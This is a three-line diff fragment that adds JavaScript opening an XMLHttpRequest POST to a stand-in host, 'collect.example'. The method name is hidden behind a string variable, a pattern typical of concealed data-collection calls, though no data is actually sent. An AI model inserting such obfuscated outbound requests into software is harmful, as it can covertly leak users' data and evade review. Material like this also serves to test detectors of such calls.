@@ -1,0 +1,3 @@
+const m = "open";
+const xhr = new XMLHttpRequest();
+xhr[m]("POST", "https://collect.example/x");
